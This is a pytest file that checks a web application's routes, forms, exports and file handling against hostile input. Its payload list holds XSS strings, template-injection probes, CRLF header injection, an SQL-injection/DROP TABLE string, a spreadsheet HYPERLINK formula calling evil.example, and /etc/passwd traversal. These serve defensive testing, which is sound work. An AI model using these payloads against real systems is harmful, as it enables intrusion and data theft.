"""Hostile words through every field and parameter of every route, found in the app: they come out inert."""

from __future__ import annotations

import re
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, urlsplit

import pytest
from starlette.testclient import TestClient
from teams import Form, Route, Team, csrf, parsed, routes_of

from dateline.ledger import Ledger

MARK = "xh0stile"
PRODUCT = str(1337 * 7331)
HOSTILE = {
    "script": f'"><script>{MARK}()</script><img src=x onerror={MARK}()>',
    "attribute": f"' autofocus onfocus={MARK}() style=color:red x='",
    "address": f"javascript:{MARK}()",
    "template": "{{1337*7331}}${1337*7331}<%= 1337*7331 %>{% for a in b %}#{1337*7331}",
    "controls": f"\u202e{MARK}\u2066\u200f\x1b[31m\x07",
    "nul": f"{MARK}\0{MARK}",
    "lines": f"{MARK}\r\nx-injected: yes\r\n\r\n<script>{MARK}()</script>",
    "search": f"{MARK}\" OR 1=1; DROP TABLE claims; -- NEAR( * ' AND",
    "formula": f'=HYPERLINK("http://evil.example/{MARK}")',
    "path": "../../../../etc/passwd",
    "url": "http://evil.example:9/latest",
    "number": "-99999999999999999999999999",
    "empty": " ",
    "unicode": "\ufeff\ufffe\U0010ffff\u0600",
}
HOSTILE["everything"] = " ".join(HOSTILE[name] for name in ("script", "attribute", "template", "controls", "formula"))
ONE_BY_ONE = ("everything", "number", "search")
"""Words that every parameter is given alone too: with all at once, the first that is refused hides the others."""

LONG = "claims of forces " * 62_500
"""A million characters."""

PAGES = 40
"""Pages of the desk that are read for their forms and links."""

MORE = ("q", "cursor", "sort", "limit", "tab", "day", "host", "actor", "kind", "format", "next", "target", "columns")
"""Parameters that every route is given besides its own: pages may read them where the app does not tell."""


@pytest.fixture(scope="module")
def team(examples_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Team]:
    path = tmp_path_factory.mktemp("hostile") / "own.db"
    shutil.copy(examples_file, path)
    made = Team(path)
    yield made
    made.close()


@pytest.fixture(scope="module")
def admin(team: Team) -> TestClient:
    return team.client("anna")


class Seen:
    """What a walk through the desk met: addresses of each route, names of fields, forms."""

    def __init__(self, admin: TestClient, routes: list[Route]) -> None:
        self.routes = routes
        self.addresses: dict[str, str] = {}
        self.names: dict[str, set[str]] = {}
        self.forms: dict[str, Form] = {}
        waiting = [route.path for route in routes if route.method == "GET" and "{" not in route.path]
        read: set[str] = set()
        while waiting and len(read) < PAGES:
            address = waiting.pop(0)
            if urlsplit(address).path in read:
                continue
            read.add(urlsplit(address).path)
            answer = admin.get(address)
            if answer.headers.get("content-type", "").startswith("text/html"):
                waiting += self._learn(answer.text)

    def _learn(self, text: str) -> list[str]:
        page = parsed(text)
        for form in page.forms:
            self.forms.setdefault(re.sub(r"[0-9a-f]{8,}", "ID", f"{form.method} {form.action}"), form)
            self._note(form.method.upper(), form.action, set(form.fields))
        found = []
        for tag, given in page.elements:
            link = given.get("href", "") if tag == "a" else ""
            if link.startswith("/") and not link.startswith(("/static", "//")):
                found += (
                    [link] if self._note("GET", link, {name for name, _ in parse_qsl(urlsplit(link).query)}) else []
                )
        return found

    def _note(self, method: str, link: str, names: set[str]) -> bool:
        """Whether this is the first address of its route."""
        path = urlsplit(link).path
        for route in self.routes:
            pattern = re.sub(r"{[^}:]*:path}", ".+", route.path)
            if route.method == method and re.fullmatch(re.sub(r"{[^}]*}", "[^/]+", pattern), path):
                self.names.setdefault(str(route), set()).update(names)
                return self.addresses.setdefault(str(route), path) == path
        return False

    def address(self, route: Route) -> str:
        return self.addresses.get(str(route), route.at())

    def fields(self, route: Route) -> list[str]:
        return sorted({*self.names.get(str(route), ()), *route.query, *route.form, *MORE} - {"csrf"})


@pytest.fixture(scope="module")
def seen(team: Team, admin: TestClient) -> Seen:
    made = Seen(admin, list(routes_of(team.app)))
    assert any(form.method == "post" for form in made.forms.values())
    return made


def assert_inert(answer: Any, what: str) -> None:
    """Nothing of what was given runs, hides, or breaks out of its place."""
    assert answer.status_code < 500, f"{what}: {answer.status_code}"
    assert "x-injected" not in answer.headers, what
    assert not any(char in value for value in answer.headers.values() for char in "\r\n\0"), what
    location = answer.headers.get("location", "/")
    local = location.startswith("/") and not location.startswith(("//", "/\\"))
    assert local or location.startswith("http://127.0.0.1/"), what
    kind = answer.headers.get("content-type", "")
    assert kind.startswith("text/html") or f"<script>{MARK}" not in answer.text or "json" in kind or "csv" in kind, what
    if not kind.startswith("text/html"):
        return
    assert PRODUCT not in answer.text, what
    assert "\0" not in answer.text, what
    page = parsed(answer.text)
    for tag, given in page.elements:
        told = f"{what}: <{tag} {given}>"
        assert not [name for name in given if name.startswith("on") or name == "style"], told
        assert (
            tag != "script"
            or given.get("src", "").startswith(("/static/", "/leaflet/"))
            or given.get("type")
            in (
                "application/json",
                "application/ld+json",
            )
        ), told
        assert not [
            name for name in ("href", "src", "action", "formaction") if "script:" in given.get(name, "").lower()
        ], told
        assert not (tag in ("img", "iframe", "link", "script") and "evil.example" in str(given)), told
    assert "\u202e" not in "".join(page.texts), what


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_words_in_addresses_are_inert(admin: TestClient, seen: Seen, name: str) -> None:
    word = HOSTILE[name]
    for route in seen.routes:
        if route.method != "GET":
            continue
        fields = seen.fields(route)
        alone = [{field: word} for field in fields if name in ONE_BY_ONE]
        for params in (dict.fromkeys(fields, word), *alone):
            assert_inert(admin.get(seen.address(route), params=params), f"{route} {sorted(params)[:3]} {name}")
        if "{" in route.path:
            assert_inert(admin.get(route.at(quote(word, safe=""))), f"{route} {name}")


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_words_in_forms_are_inert(admin: TestClient, seen: Seen, name: str) -> None:
    """Written, then read again on every page."""
    word = HOSTILE[name]
    headers = {"x-csrf-token": csrf(admin)}
    for route in seen.routes:
        if route.method == "GET" or route.path in ("/sign-out", "/password"):
            continue
        at = seen.address(route)
        given = {field: word for field in seen.fields(route)}
        for more in ({"data": given}, {"json": given}, {"files": {field: (word, word.encode()) for field in given}}):
            answer = admin.request(route.method, at, headers=headers, **more)  # type: ignore[arg-type]
            assert_inert(answer, f"{route} {name}")
    for form in seen.forms.values():
        if form.method == "post" and form.action not in ("/sign-out", "/password"):
            for field in form.fields:
                answer = admin.post(form.action, data=form.fields | {field: word}, headers=headers)
                assert_inert(answer, f"{form.action} {field} {name}")
    for route in seen.routes:
        if route.method == "GET":
            assert_inert(admin.get(seen.address(route)), f"{route} after {name}")


REPORT = f"""NIAMEY, 2 May 2024 - Russia has deployed 900 soldiers to Niger, {HOSTILE["controls"]} a spokesman of the
Ministry of Defence <script>{MARK}()</script> said on Thursday. The United States has 1,000 troops at Airbase 101 in
Niamey, General {HOSTILE["attribute"]} told reporters. {{{{1337*7331}}}} {HOSTILE["script"]}

Mali denied on 3 May that 500 Russian mercenaries <img src=x onerror={MARK}()> were in Gao. {HOSTILE["formula"]}
"""


@pytest.fixture(scope="module")
def hostile_ledger(examples_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger with a report whose every field is hostile."""
    folder = tmp_path_factory.mktemp("report")
    path = folder / "hostile.db"
    shutil.copy(examples_file, path)
    (folder / "report.txt").write_text(REPORT, encoding="utf-8")
    words = HOSTILE["everything"].replace("\x1b[31m\x07", "")
    with Ledger(path) as ledger:
        given = {
            "title": words,
            "outlet": words,
            "url": HOSTILE["address"],
            "published": "2024-05-03",
            "language": "en",
        }
        ledger.add(folder / "report.txt", **given)  # type: ignore[arg-type]
        ledger.disputes()
    return path


def test_hostile_reports_are_inert_wherever_they_are_shown(hostile_ledger: Path) -> None:
    team = Team(hostile_ledger)
    reader = team.client("bela")
    waiting = [route.path for route in routes_of(team.app) if route.method == "GET" and "{" not in route.path]
    read: set[str] = set()
    told: set[str] = set()
    while waiting and len(read) < 200:
        address = waiting.pop(0)
        if address in read:
            continue
        read.add(address)
        answer = reader.get(address)
        assert_inert(answer, address)
        if MARK in answer.text and answer.headers["content-type"].startswith("text/html"):
            told.add(urlsplit(address).path.split("/")[1])
        links = (given.get("href", "") for tag, given in parsed(answer.text).elements if tag == "a")
        found = [link for link in links if link.startswith("/") and not link.startswith(("/static", "//"))]
        waiting = [*found, *waiting] if MARK in answer.text else [*waiting, *found]
    team.close()
    assert {"reports", "claims"} <= told, told


def test_fields_of_a_megabyte_leave_pages_usable(admin: TestClient, seen: Seen) -> None:
    headers = {"x-csrf-token": csrf(admin)}
    for route in seen.routes:
        at = seen.address(route)
        if route.method == "GET":
            for field in seen.fields(route):
                answer = admin.get(at, params={field: LONG[:12_000]})
                assert answer.status_code < 500, f"{route} {field}"
            assert admin.get(at, params={"q": LONG[:60_000]}).status_code == 414, str(route)
        elif route.path not in ("/sign-out", "/password"):
            for given in (
                {field: LONG for field in seen.fields(route)[:1]},
                dict.fromkeys(seen.fields(route), "x" * 9000),
            ):
                answer = admin.request(route.method, at, data=given, headers=headers)
                assert answer.status_code < 500, str(route)
                assert len(answer.text) < 400_000, str(route)
            files = {field: (None, LONG) for field in seen.fields(route)[:1]}
            assert admin.request(route.method, at, files=files, headers=headers).status_code < 500, str(route)


@pytest.mark.parametrize(
    "kind",
    [
        "application/json",
        "multipart/form-data",
        "multipart/form-data; boundary=x",
        "text/xml",
        "x",
        "",
        "\xff",
        "a/b; c",
    ],
)
def test_bodies_that_are_not_what_they_say_are_refused(admin: TestClient, seen: Seen, kind: str) -> None:
    headers = {"x-csrf-token": csrf(admin).encode(), "content-type": kind.encode("latin-1")}
    for route in seen.routes:
        if route.method != "GET" and route.path not in ("/sign-out", "/password"):
            for body in (b"", b"{", b"--x\r\n\r\n", b"\xff\xfe\0", b"[" * 50_000, b"a=%zz&" * 5000):
                answer = admin.request(route.method, seen.address(route), content=body, headers=headers)  # type: ignore[arg-type]
                assert answer.status_code < 500, f"{route} {kind} {body[:9]!r}: {answer.status_code}"


def test_the_server_opens_no_path_or_address_it_is_given(admin: TestClient, seen: Seen, tmp_path: Path) -> None:
    """An audit hook of the interpreter sees every file and connection that is opened."""
    bait = tmp_path / "bait.txt"
    bait.write_text("Russia has 900 soldiers in Niger.")
    opened: list[str] = []
    watching = True

    def watch(event: str, given: tuple[Any, ...]) -> None:
        if watching and event in ("open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system"):
            told = f"{event} {given[:2]}"
            if "evil.example" in told or str(bait) in told or "passwd" in told or event.startswith(("sub", "os.")):
                opened.append(told)

    sys.addaudithook(watch)
    try:
        headers = {"x-csrf-token": csrf(admin)}
        for word in (str(bait), bait.as_uri(), "/etc/passwd", "http://evil.example/x", "//evil.example/x"):
            for route in seen.routes:
                if route.path in ("/sign-out", "/password"):
                    continue
                given = dict.fromkeys(seen.fields(route), word)
                if route.method == "GET":
                    answer = admin.get(seen.address(route), params=given)
                else:
                    answer = admin.request(route.method, seen.address(route), data=given, headers=headers)
                assert "900 soldiers" not in answer.text, str(route)
                if "{" in route.path:
                    admin.request(route.method, route.at(quote(word, safe="")), headers=headers)
    finally:
        watching = False
    assert opened == []


def test_the_desk_has_no_client_for_the_network() -> None:
    import dateline

    root = Path(dateline.__file__).parent
    asks = re.compile(r"(?m)^\s*(?:from|import) (?:httpx|requests|urllib\.request|aiohttp|ftplib|smtplib)\b")
    for folder in ("web", "desk", "people", "store", "judging", "export"):
        for path in (root / folder).rglob("*.py"):
            assert not asks.search(path.read_text(encoding="utf-8")), path


def test_what_writes_csv_neutralises_formulas() -> None:
    """Spreadsheet formulas: these modules put every text through `safe.cell` (tests of each test that they do)."""
    import dateline

    root = Path(dateline.__file__).parent
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if re.search(r"csv\.(?:writer|DictWriter)|to_csv\(", path.read_text(encoding="utf-8"))
    }
    assert writers == {"export/csv.py", "export/acled.py", "export/ftm/writing.py", "releases/gone.py"}
    for name in writers:
        assert re.search(r"import (?:.*\b)?cell\b", (root / name).read_text(encoding="utf-8")), name
